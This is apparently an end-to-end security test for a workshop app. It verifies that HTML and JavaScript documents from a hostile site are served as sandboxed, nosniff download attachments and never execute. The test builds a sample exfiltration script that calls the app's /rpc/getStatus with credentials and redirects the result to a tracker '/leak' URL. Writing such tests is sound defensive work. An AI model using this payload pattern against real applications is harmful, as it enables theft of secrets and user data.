import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertDocument } from '../../server/media/repo.ts';
import { documentUrl } from '../../server/media/json.ts';
import { capturingDemoWorkshop } from '../helpers/services.ts';
import { appMediaUrl, openDemoApp, type startApp } from '../e2e/browser.ts';
import { startListener, type Listener } from './http.ts';

// Issue 14, attack 1, in Chromium: a site lists a guide document `manual.html` (text/html) whose
// `<script src>` is another of its "documents" (application/javascript), addressed through the web
// shell's media route, so that it would load from the app's own origin, call /rpc/getStatus with the
// launch secret and send the technician's name away. Media are data: neither file may run, as a page
// or as a script, and nothing may reach the attacker or the App API.
const demo = capturingDemoWorkshop();
let browser: Browser;
let app: Awaited<ReturnType<typeof startApp>>;
let page: Page;
let tracker: Listener;
const rpcCalls: string[] = [];
let manualUrl = '';
let scriptUrl = '';
let guideid = 0;

beforeAll(async () => {
  tracker = await startListener();
  ({ browser, app, page } = await openDemoApp(demo, { width: 1366, height: 768 }, []));
});
afterAll(async () => {
  await browser?.close();
  await app?.stop();
  await tracker?.close();
});

describe('a hostile site’s documents are data, never code', () => {
  it('syncs a guide whose documents are a page and the script it loads', async () => {
    await page.goto(app.shell.launchUrl);
    await page.getByTestId('connect-demo').click();
    await page.getByTestId('library').waitFor();
    const site = demo.site();
    const origin = new URL(site.apiUrl).origin;
    const trackerUrl = tracker.url;
    scriptUrl = documentUrl(origin, 'b0b0b0b0-0000-4000-8000-000000000002', 'helper.js');
    manualUrl = documentUrl(origin, 'b0b0b0b0-0000-4000-8000-000000000001', 'manual.html');
    const script =
      `document.title = 'script ran';` +
      `fetch('/rpc/getStatus', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '[]' })` +
      `.then((r) => r.text()).then((t) => { location.href = '${trackerUrl}/leak?' + encodeURIComponent(t); });`;
    // Worst case: the site knows the read key, so the media route itself would serve the script.
    const scriptTag = `<script src="${appMediaUrl(app.shell, scriptUrl)}"></script>`;
    const manual = `<!doctype html><title>Manual</title><p>Torque table</p>${scriptTag}`;
    const now = Math.floor(Date.now() / 1000);
    const ids = [
      insertDocument(site.db, {
        guid: 'b0b0b0b0-0000-4000-8000-000000000001',
        title: 'Manual',
        filename: 'manual.html',
        mime: 'text/html',
        bytes: Buffer.from(manual),
        created: now,
      }),
      insertDocument(site.db, {
        guid: 'b0b0b0b0-0000-4000-8000-000000000002',
        title: 'Helper',
        filename: 'helper.js',
        mime: 'application/javascript',
        bytes: Buffer.from(script),
        created: now,
      }),
    ];
    const row = site.db
      .prepare(
        'SELECT g.guideid, g.revisionid FROM guides g ' +
          'JOIN guide_revisions r ON r.revisionid = g.revisionid ORDER BY g.guideid LIMIT 1',
      )
      .get() as { guideid: number; revisionid: number };
    guideid = row.guideid;
    site.db
      .prepare('UPDATE guide_revisions SET documents = ?, modified_date = modified_date + 1 WHERE revisionid = ?')
      .run(JSON.stringify(ids), row.revisionid);
    expect((await app.app.services.api.syncNow()).ok).toBe(true);
    const guide = await app.app.services.api.getGuide(guideid);
    expect(guide.ok && guide.value.documents.map((d) => d.url).sort()).toEqual([scriptUrl, manualUrl].sort());
  });

  it('serves both as opaque attachments, sandboxed, nosniff and same-origin only', async () => {
    for (const url of [manualUrl, scriptUrl]) {
      const response = await page.request.get(appMediaUrl(app.shell, url));
      expect(response.status()).toBe(200);
      const headers = response.headers();
      expect(headers['content-type']).toBe('application/octet-stream');
      expect(headers['content-disposition']).toMatch(/^attachment; filename="(manual\.html|helper\.js)"$/);
      expect(headers['content-security-policy']).toMatch(/^sandbox/);
      expect(headers['x-content-type-options']).toBe('nosniff');
      expect(headers['cross-origin-resource-policy']).toBe('same-origin');
    }
  });

  it('opening the document from the guide runs nothing and sends nothing', async () => {
    const context = page.context();
    context.on('request', (request) => {
      if (new URL(request.url()).pathname.startsWith('/rpc/getStatus')) rpcCalls.push(request.url());
    });
    await page.goto(new URL(`/guides/${guideid}`, app.shell.url).toString());
    const link = page.getByTestId('guide-documents').getByRole('link', { name: 'Manual' });
    await link.waitFor();
    const before = rpcCalls.length;
    const download = page.waitForEvent('download', { timeout: 10_000 }).catch(() => null);
    const popup = page.waitForEvent('popup', { timeout: 10_000 }).catch(() => null);
    await link.click();
    const [saved, opened] = await Promise.all([download, popup]);
    if (opened) await opened.waitForLoadState('networkidle').catch(() => undefined);
    // Saved as a file, or at most a blank tab: never a page of the app that ran the site's script.
    expect(saved !== null || opened !== null).toBe(true);
    if (saved) expect(saved.suggestedFilename()).toBe('manual.html');
    if (opened && !opened.isClosed()) expect(await opened.title()).not.toBe('script ran');
    // Loaded straight as a script from the app's own page, it is refused (nosniff on an opaque type).
    const ran = await page.evaluate(
      async (src) => {
        const tag = document.createElement('script');
        tag.src = src;
        const settled = new Promise<string>((resolve) => {
          tag.onload = () => resolve('loaded');
          tag.onerror = () => resolve('refused');
        });
        document.head.append(tag);
        return [await settled, document.title] as const;
      },
      appMediaUrl(app.shell, scriptUrl),
    );
    expect(ran[0]).toBe('refused');
    expect(ran[1]).not.toBe('script ran');
    await page.waitForTimeout(500);
    expect(rpcCalls.length).toBe(before);
    expect(tracker.requests).toEqual([]);
    expect(await link.getAttribute('href')).toContain('download=1');
  });
});
